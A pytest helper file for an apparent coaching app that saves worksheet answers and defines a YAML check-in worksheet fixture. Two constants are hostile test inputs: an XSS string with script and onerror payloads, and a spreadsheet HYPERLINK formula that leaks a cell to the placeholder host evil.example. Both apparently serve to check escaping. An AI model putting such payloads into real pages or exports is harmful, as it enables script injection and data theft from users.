"""A fresh store per test, and a way to save a worksheet's answers through the facade as the wizard does."""

from __future__ import annotations

import textwrap
from collections.abc import Mapping
from typing import Any

import pytest

from coachkit.exercises import WORKSHEETS
from coachkit.exercises.files import read_libraries
from coachkit.store import Client, Response, Store
from coachkit.worksheet.loader import load_worksheet

FIGHT = "fight-or-make-it-right"
HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)> & "quotes" 😊'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'

NO_FIGHT = {
    "approach": "sidestep",
    "fight_or_right": "right",
    "one_upmanship": False,
    "superior": False,
    "bigger_weapons": False,
    "push_to_lose_cool": False,
    "rise_then_wrong": False,
    "role": "both",
    "frequency": "rarely",
    "been_hurt": "no",
    "hurt_partner": "no",
}
"""A complete, calm answer to "Fight or make it right?"."""


def fill(
    store: Store,
    client: Client,
    worksheet_id: str,
    answers: Mapping[str, Any],
    *,
    complete: bool = True,
    steps: int | None = None,
) -> Response:
    """Save ``answers`` step by step, raising the worksheet's own flags; a draft stops after ``steps``."""
    sheet = WORKSHEETS[worksheet_id]
    response = store.start_response(client.id, sheet.id, sheet.version)
    so_far: dict[str, Any] = {}
    chosen = sheet.steps if steps is None else sheet.steps[:steps]
    for index, step in enumerate(chosen):
        step_answers = {item.id: answers.get(item.id) for item in step.fields}
        so_far.update(step_answers)
        flags = sheet.flags(so_far)
        if complete and index == len(sheet.steps) - 1:
            response = store.complete_response(response.id, step.id, step_answers, flags=flags)
        else:
            next_step = min(index + 1, len(sheet.steps) - 1)
            response = store.save_step(
                response.id, step.id, step_answers, current_step=next_step, flags=flags
            )
    return response


def fight(**changes: Any) -> dict[str, Any]:
    """The calm fight answers with some changed (``self_check=3`` says yes to the first three questions)."""
    answers = dict(NO_FIGHT)
    yes = changes.pop("self_check", 0)
    for question in list(NO_FIGHT)[2:7][:yes]:
        answers[question] = True
    answers.update(changes)
    return answers


CHECK_IN = textwrap.dedent(
    """
    id: check-in
    version: 1
    title: Weekly check-in
    steps:
      - id: week
        title: Your week
        fields:
          - {id: calm, kind: yes_no, label: Did you stay calm?}
          - {id: kind_word, kind: yes_no, label: Did you say something kind?}
          - {id: mood, kind: rating, label: How was your week?, low: 1, high: 10}
          - id: talks
            kind: single_choice
            label: How often did you talk?
            options: {never: Never, some: Sometimes, often: Often}
    measures:
      - id: good_things
        title: Good things
        count: count_true(calm, kind_word)
        out_of: 2
      - {id: mood, title: Mood, rating: mood}
      - {id: talks, title: Talks, scale: talks, highlight: talks == "never", highlight_label: Never}
      - id: parts
        title: What happened
        checks: {Calm: calm, Kind: 'None if kind_word is None else kind_word'}
    """
)
"""A worksheet the code has never heard of, with one measure of each kind."""


@pytest.fixture
def check_in(monkeypatch):
    sheet = load_worksheet(CHECK_IN, "check-in.yaml", read_libraries())
    monkeypatch.setitem(WORKSHEETS, sheet.id, sheet)
    return sheet
